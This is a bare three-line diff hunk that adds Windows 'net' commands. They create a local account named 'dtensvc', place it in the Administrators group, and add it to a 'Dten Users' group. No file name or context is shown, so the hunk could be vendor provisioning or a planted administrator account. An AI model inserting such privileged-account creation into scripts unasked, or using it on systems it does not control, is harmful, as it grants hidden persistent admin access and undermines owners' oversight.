@@ -1,0 +1,3 @@
+net user dtensvc /add
+net localgroup Administrators dtensvc /add
+net localgroup "Dten Users" dtensvc /add
